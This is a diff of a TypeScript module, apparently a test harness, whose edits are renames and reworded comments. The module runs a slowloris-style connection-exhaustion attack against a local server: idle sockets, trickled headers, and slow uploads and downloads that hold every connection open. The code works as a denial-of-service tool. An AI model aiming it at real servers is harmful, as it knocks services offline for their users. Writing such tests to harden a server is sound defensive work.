@@ -1,90 +1,90 @@
 import { connect, type Socket } from 'node:net';
 
-/** All of 127.0.0.0/8 is this machine, so that this one can attack while 127.0.0.1 is somebody else. */
+/** All of 127.0.0.0/8 is this machine, so this address can attack while 127.0.0.1 is another client. */
 export const ATTACKER = '127.0.0.2';
 
 export interface Attack {
   port: number;
   /** Connections that send nothing. */
   idle: number;
-  /** Those that send or read a little at a time: heads, and bodies of the URLs, in turn. */
+  /** Connections that send or read a little at a time: alternately request heads and bodies of the URLs. */
   trickling: number;
-  /** Signed for `UPLOAD_BYTES` of video/mp4. */
+  /** Signed PUT URLs for `UPLOAD_BYTES` of video/mp4. */
   putUrls?: string[];
-  /** Of objects that are larger than what the kernel buffers for a client that does not read. */
+  /** Signed GET URLs of objects larger than the kernel's buffers for a client that does not read. */
   getUrls?: string[];
 }
 
 export interface Attacker {
-  /** Connections that were opened, those of them that were ended by the other side, and those that are open. */
+  /** Connections opened so far, closed by the server, and currently open. */
   counts(): { opened: number; ended: number; open: number };
   end(): void;
 }
 
 export const UPLOAD_BYTES = 10_000_000;
 const BATCH = 200;
-/** Connections that are opened again each tick: measurements must not show the attacker's own work. */
-const AGAIN = 50;
+/** Maximum reconnects per tick, so that measurements do not show the attacker's own work. */
+const RECONNECTS = 50;
 const TICK_MS = 100;
 const TRICKLE_MS = 500;
-/** A little more than the least rate of the storage, 1000 bytes a second. */
+/** Slightly above the minimum rate of the storage, 1000 bytes a second. */
 const TRICKLE_BYTES = 600;
 
-/** How one connection begins, and what it does at each trickle. */
-interface Manner {
+/** What one connection sends first, and what it does at each trickle. */
+interface Behavior {
   hello: string;
   trickle?: (socket: Socket) => void;
   isReader?: boolean;
 }
 
 /**
- * Opens all connections that a port allows for one address, and reconnects when one is ended. Resolves when each
- * connection was tried once.
+ * Opens all connections that a port allows for one address, and reconnects when one is closed. Resolves once each
+ * connection has been tried.
  */
 export async function attack(target: Attack): Promise<Attacker> {
-  const open = new Map<Socket, Manner>();
-  const lost: Manner[] = [];
+  const open = new Map<Socket, Behavior>();
+  const lost: Behavior[] = [];
   const counts = { opened: 0, ended: 0 };
   let over = false;
-  const start = (manner: Manner) =>
+  const start = (behavior: Behavior) =>
     new Promise<void>((resolve) => {
       const socket = connect({ port: target.port, host: '127.0.0.1', localAddress: ATTACKER });
       socket.on('error', () => undefined);
       socket.once('connect', () => {
         counts.opened++;
-        open.set(socket, manner);
-        if (manner.hello) socket.write(manner.hello);
+        open.set(socket, behavior);
+        if (behavior.hello) socket.write(behavior.hello);
         resolve();
       });
-      // A download reads at each trickle alone. A paused socket does not notice its end, so the others read.
-      if (!manner.isReader) socket.resume();
+      // A download reads only at each trickle. The others read, because a paused socket does not notice its end.
+      if (!behavior.isReader) socket.resume();
       socket.once('close', () => {
         if (open.delete(socket)) counts.ended++;
-        if (!over) lost.push(manner);
+        if (!over) lost.push(behavior);
         resolve();
       });
     });
 
-  const manners = mannersOf(target);
-  for (let at = 0; at < manners.length; at += BATCH) await Promise.all(manners.slice(at, at + BATCH).map(start));
-  const again = setInterval(() => lost.splice(0, AGAIN).map(start), TICK_MS);
+  const behaviors = behaviorsOf(target);
+  for (let at = 0; at < behaviors.length; at += BATCH) await Promise.all(behaviors.slice(at, at + BATCH).map(start));
+  const reconnect = setInterval(() => lost.splice(0, RECONNECTS).map(start), TICK_MS);
   const trickle = setInterval(() => {
-    for (const [socket, manner] of open) manner.trickle?.(socket);
+    for (const [socket, behavior] of open) behavior.trickle?.(socket);
   }, TRICKLE_MS);
   return {
     counts: () => ({ ...counts, open: open.size }),
     end() {
       over = true;
-      clearInterval(again);
+      clearInterval(reconnect);
       clearInterval(trickle);
       for (const socket of open.keys()) socket.destroy();
     },
   };
 }
 
-/** The trickling ones first: they stay, and what is idle is refused. */
-function mannersOf({ idle, trickling, putUrls = [], getUrls = [] }: Attack): Manner[] {
-  const kinds: ((index: number) => Manner)[] = [
+/** Trickling connections come first, so that they stay open and idle ones are refused. */
+function behaviorsOf({ idle, trickling, putUrls = [], getUrls = [] }: Attack): Behavior[] {
+  const kinds: ((index: number) => Behavior)[] = [
     () => ({ hello: 'GET / HTTP/1.1\r\nx-slow: ', trickle: (socket) => socket.write('y') }),
   ];
   if (putUrls.length > 0) {
@@ -105,7 +105,7 @@ function mannersOf({ idle, trickling, putUrls = [], getUrls = [] }: Attack): Man
   const slow = Array.from({ length: trickling }, (_, index) =>
     kinds[index % kinds.length]!(Math.floor(index / kinds.length)),
   );
-  return [...slow, ...Array<Manner>(idle).fill({ hello: '' })];
+  return [...slow, ...Array<Behavior>(idle).fill({ hello: '' })];
 }
 
 function headOf(method: string, signed: string, rest: string): string {
